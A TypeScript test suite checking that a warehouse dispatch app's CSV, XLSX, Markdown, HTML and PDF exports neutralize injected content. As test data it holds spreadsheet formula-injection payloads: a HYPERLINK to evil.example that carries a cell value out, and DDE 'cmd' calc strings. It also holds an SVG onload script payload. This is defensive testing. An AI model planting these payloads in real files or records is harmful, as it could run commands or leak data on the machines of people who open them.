import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { dispatchBody, exportedSheet, importCsv, receive } from '../support/fixtures.js';
import { waitForReportJob } from '../support/jobs.js';
import { readPdf } from '../support/pdf.js';
import { startTestApp, TestApp } from '../support/test-app.js';

/** What a warehouse user could type to make a coordinator's spreadsheet run something. */
const FORMULAS = {
  driverName: '=HYPERLINK("http://evil.example/?"&A1,"Open")',
  carrier: '+1+cmd|" /C calc"!A0',
  consignee: '@SUM(1+1)*cmd|" /C calc"!A0',
  emergency: '-2+3',
};

describe('what the app writes for others to open', () => {
  let t: TestApp;
  let warehouse: string;
  let coordinator: string;
  beforeAll(async () => {
    t = await startTestApp();
  });
  beforeEach(async () => {
    await t.reset();
    warehouse = await t.createUser('warehouse');
    coordinator = await t.createUser('coordinator');
  });
  afterAll(() => t.close());

  it('exports formula-like text as text in CSV and XLSX, and keeps numbers numeric', async () => {
    await receive(t, warehouse, [{ sku: 'CRI-RHU', quantity: 5 }]);
    const dispatch = await t
      .http()
      .post('/api/dispatches')
      .set(t.as(warehouse))
      .send(dispatchBody([{ sku: 'CRI-RHU', quantity: 2 }], FORMULAS))
      .expect(201);
    // Tab and carriage return, which some spreadsheets skip before looking for a formula.
    const history = [
      'waybill_no,dispatched_at,destination,truck_plate,sku,quantity,cargo_weight_kg,emergency,carrier,driver_name',
      'OLD-1,2024-05-28T10:00:00+05:00,AF,01 B 777 CD,CRI-BLANKET-HT,10,,"\t=1+2","\r=3+4",Rustam',
    ].join('\n');
    await importCsv(t, warehouse, history).expect(201);

    const csv = await t
      .http()
      .get('/api/dispatches/export?format=csv')
      .set(t.as(coordinator))
      .expect(200);
    expect(csv.text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Open"")"`);
    const rows: Record<string, string>[] = parse(csv.text, { columns: true });
    const live = rows.find((r) => r.waybill_no === dispatch.body.waybillNo)!;
    expect(live).toMatchObject({
      driver_name: `'${FORMULAS.driverName}`,
      consignee: `'${FORMULAS.consignee}`,
      carrier: `'${FORMULAS.carrier}`,
      emergency: `'${FORMULAS.emergency}`,
      quantity: '2',
      weight_kg: '322',
    });
    expect(rows.find((r) => r.waybill_no === 'OLD-1')).toMatchObject({
      emergency: "'\t=1+2",
      carrier: "'\r=3+4",
      driver_name: 'Rustam',
    });
    // No cell of the file starts a formula, quoted or not.
    const cells: string[][] = parse(csv.text);
    expect(cells.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);

    const sheet = await exportedSheet(t, coordinator);
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    const column = (name: string) => header.indexOf(name) + 1;
    const sheetRows: ExcelJS.Row[] = [];
    sheet.eachRow((row, n) => n > 1 && sheetRows.push(row));
    const liveRow = sheetRows.find(
      (row) => row.getCell(column('Waybill')).value === dispatch.body.waybillNo,
    )!;
    expect(liveRow.getCell(column('Driver')).value).toBe(`'${FORMULAS.driverName}`);
    expect(liveRow.getCell(column('Carrier')).value).toBe(`'${FORMULAS.carrier}`);
    expect(liveRow.getCell(column('Consignee')).value).toBe(`'${FORMULAS.consignee}`);
    expect(liveRow.getCell(column('Emergency')).value).toBe(`'${FORMULAS.emergency}`);
    expect(liveRow.getCell(column('Quantity')).value).toBe(2);
    expect(liveRow.getCell(column('Line weight (kg)')).value).toBe(322);
    for (const row of sheetRows) {
      row.eachCell((cell) => {
        expect(cell.formula).toBeUndefined();
        if (typeof cell.value === 'string') expect(cell.value).not.toMatch(/^[=+\-@\t\r]/);
      });
    }
  });

  it('writes the XLSX register for a spreadsheet: real dates, a bold frozen header in words with filters, the delivery columns', async () => {
    await receive(t, warehouse, [
      { sku: 'CRI-BLANKET-HT', quantity: 100 },
      { sku: 'CRI-BUCKET-14L', quantity: 10 },
    ]);
    const { body } = await t
      .http()
      .post('/api/dispatches')
      .set(t.as(warehouse))
      .send(
        dispatchBody(
          [
            { sku: 'CRI-BLANKET-HT', quantity: 50 },
            { sku: 'CRI-BUCKET-14L', quantity: 10 },
          ],
          { trailerPlate: '01 TR 555', consignee: 'UNHCR Mazar-i-Sharif' },
        ),
      )
      .expect(201);
    await t
      .http()
      .post(`/api/dispatches/${body.id}/delivery`)
      .set(t.as(warehouse))
      .send({
        deliveredAt: new Date().toISOString(),
        lines: [
          { sku: 'CRI-BLANKET-HT', receivedQuantity: 45, damagedQuantity: 2 },
          { sku: 'CRI-BUCKET-14L', receivedQuantity: 10 },
        ],
      })
      .expect(200);
    await importCsv(
      t,
      warehouse,
      [
        'waybill_no,dispatched_at,destination,truck_plate,sku,quantity,cargo_weight_kg',
        'OLD-9,2024-01-15T09:30:00+05:00,TJ,01 B 777 CD,CRI-RHU,1,',
        'OLD-10,2024-05-31T23:50:00+05:00,AF,01 B 778 CD,CRI-RHU,1,',
      ].join('\n'),
    ).expect(201);

    const response = await t
      .http()
      .get('/api/dispatches/export?format=xlsx&from=2024-01-01&to=2024-05-31')
      .set(t.as(coordinator))
      .buffer(true)
      .parse((res, callback) => {
        const chunks: Buffer[] = [];
        res.on('data', (c: Buffer) => chunks.push(c));
        res.on('end', () => callback(null, Buffer.concat(chunks)));
      })
      .expect(200);
    expect(response.headers['content-disposition']).toBe(
      'attachment; filename="dispatches-TMZ-2024-01-01-2024-05-31.xlsx"',
    );
    const period = new ExcelJS.Workbook();
    await period.xlsx.load(response.body as Parameters<typeof period.xlsx.load>[0]);
    const old = period.getWorksheet('Dispatches')!;
    expect(old.rowCount).toBe(3);
    // The day of dispatch in hub time, as a date a spreadsheet sorts: 15 Jan 2024 09:30 Tashkent.
    const dateCell = old.getRow(2).getCell(2);
    expect(dateCell.type).toBe(ExcelJS.ValueType.Date);
    expect(dateCell.value).toEqual(new Date('2024-01-15T09:30:00Z'));
    expect(dateCell.numFmt).toBe('d mmm yyyy hh:mm');
    expect(old.getRow(3).getCell(2).value).toEqual(new Date('2024-05-31T23:50:00Z'));
    // Without a period, the file is named by the first and last dispatch it holds.
    const everything = await t
      .http()
      .get('/api/dispatches/export?format=csv')
      .set(t.as(coordinator))
      .expect(200);
    expect(everything.headers['content-disposition']).toMatch(
      /^attachment; filename="dispatches-TMZ-2024-01-15-\d{4}-\d{2}-\d{2}\.csv"$/,
    );

    const sheet = await exportedSheet(t, coordinator);
    expect(sheet.views).toEqual([expect.objectContaining({ state: 'frozen', ySplit: 1 })]);
    const header = sheet.getRow(1);
    expect(header.font).toMatchObject({ bold: true });
    expect(header.getCell(1).font).toMatchObject({ bold: true });
    const names = (header.values as unknown[]).slice(1);
    expect(names).toEqual(
      expect.arrayContaining([
        'Waybill',
        'Dispatched (Asia/Tashkent)',
        'Destination',
        'Trailer',
        'Consignee',
        'Received',
        'Damaged',
        'Missing',
      ]),
    );
    expect(names.every((name) => typeof name === 'string' && !/_/.test(name))).toBe(true);
    // every row under the header, every column (24: A to X)
    expect(names).toHaveLength(24);
    expect(sheet.autoFilter).toBe(`A1:X${sheet.rowCount}`);
    expect(sheet.getColumn(names.indexOf('Consignee') + 1).width).toBeGreaterThan(15);
    const column = (name: string) => names.indexOf(name) + 1;
    const lines = new Map<string, ExcelJS.Row>();
    sheet.eachRow((row, n) => {
      if (n > 1 && row.getCell(column('Waybill')).value === body.waybillNo)
        lines.set(String(row.getCell(column('SKU')).value), row);
    });
    const blankets = lines.get('CRI-BLANKET-HT')!;
    expect(
      ['Trailer', 'Consignee', 'Destination', 'Quantity', 'Received', 'Damaged', 'Missing'].map(
        (name) => blankets.getCell(column(name)).value,
      ),
    ).toEqual(['01 TR 555', 'UNHCR Mazar-i-Sharif', 'Afghanistan', 50, 45, 2, 3]);
    const buckets = lines.get('CRI-BUCKET-14L')!;
    expect(
      ['Received', 'Damaged', 'Missing'].map((name) => buckets.getCell(column(name)).value),
    ).toEqual([10, 0, 0]);
    // Not delivered yet: empty, never 0.
    const undelivered: unknown[] = [];
    sheet.eachRow((row, n) => {
      if (n > 1 && row.getCell(column('Waybill')).value === 'OLD-9')
        undelivered.push(row.getCell(column('Received')).value);
    });
    expect(undelivered).toEqual([null]);
  });

  it('writes the weekly report: formula-like CSV cells as text, names escaped in Markdown and HTML', async () => {
    await t
      .http()
      .post('/api/destinations')
      .set(t.as())
      .send({ code: 'XS', name: '<svg onload=alert(2)>' })
      .expect(201);
    await t
      .http()
      .post('/api/items')
      .set(t.as())
      .send({
        sku: 'CRI-PIPE',
        name: 'Tent | *big* _wide_',
        unit: 'piece',
        unitWeightKg: 10,
        unitVolumeM3: 0.1,
      })
      .expect(201);
    const plate = '=HYPERLINK("http://e.x","go")';
    await importCsv(
      t,
      warehouse,
      [
        'waybill_no,dispatched_at,destination,truck_plate,sku,quantity,cargo_weight_kg',
        `OLD-2,2024-05-28T10:00:00+05:00,XS,"${plate.replace(/"/g, '""')}",CRI-PIPE,1000,`,
      ].join('\n'),
    ).expect(201);
    const accepted = await t
      .http()
      .post('/api/reports/weekly')
      .set(t.as(coordinator))
      .send({ weekStart: '2024-05-27' })
      .expect(202);
    await waitForReportJob(t, accepted.body.jobUrl);
    const url = '/api/reports/weekly/2024-05-27';

    const csv = await t.http().get(`${url}?format=csv`).set(t.as()).expect(200);
    expect(csv.text).toContain(`"'=HYPERLINK(""http://e.x"",""go"")"`);
    const [row] = parse(csv.text, { columns: true }) as Record<string, string>[];
    expect(row).toMatchObject({ waybill_no: 'OLD-2', truck_plate: `'${plate}`, tonnes: '10' });

    const md = (await t.http().get(`${url}?format=md`).set(t.as()).expect(200)).text;
    expect(md).not.toMatch(/<svg/);
    expect(md).toContain('| &lt;svg onload=alert(2)&gt; | 1 | 10.0 |');
    expect(md).toContain('| Tent \\| \\*big\\* \\_wide\\_ | 1,000 | 10.0 |');

    const html = (await t.http().get(`${url}?format=html`).set(t.as()).expect(200)).text;
    expect(html).not.toMatch(/<svg onload/);
    expect(html).toContain('&lt;svg onload=alert(2)&gt;');
    // Names, not codes, and times for people, in every format for people.
    const ISO_TIME = /\d{4}-\d{2}-\d{2}T\d{2}:\d{2}/;
    expect(md).toMatch(
      /\| OLD-2 \| 28 May 2024, 10:00 \| &lt;svg onload=alert\(2\)&gt; \| .* \| 10\.0 \|/,
    );
    expect(md).not.toMatch(ISO_TIME);
    expect(html.replace(/<[^>]+>/g, ' ')).not.toMatch(ISO_TIME);
    expect(html).toMatch(
      /<small>Generated \d{1,2} \w{3} \d{4}, \d{2}:\d{2} \(Asia\/Tashkent, UTC\+05:00\)<\/small>/,
    );

    const pdf = await t
      .http()
      .get(`${url}?format=pdf`)
      .set(t.as())
      .buffer(true)
      .parse((res, callback) => {
        const chunks: Buffer[] = [];
        res.on('data', (c: Buffer) => chunks.push(c));
        res.on('end', () => callback(null, Buffer.concat(chunks)));
      })
      .expect(200);
    expect(pdf.headers['content-type']).toBe('application/pdf');
    expect(pdf.headers['content-disposition']).toBe(
      'attachment; filename="weekly-TMZ-2024-05-27.pdf"',
    );
    const { header, pages, text } = readPdf(pdf.body as Buffer);
    expect(header).toBe('%PDF-');
    expect(pages).toBeGreaterThan(0);
    expect(text).not.toMatch(ISO_TIME);
    for (const figure of [
      'OLD-2',
      '28 May 2024, 10:00',
      '<svg onload=alert(2)>',
      'Tent | *big* _wide_',
      '1,000',
      '10.0',
    ]) {
      expect([figure, text.includes(figure)]).toEqual([figure, true]);
    }
    expect(text).toMatch(
      /Generated \d{1,2} \w{3} \d{4}, \d{2}:\d{2} \(Asia\/Tashkent, UTC\+05:00\)/,
    );
    await t.http().get(`${url}?format=xml`).set(t.as()).expect(400);
  });
});
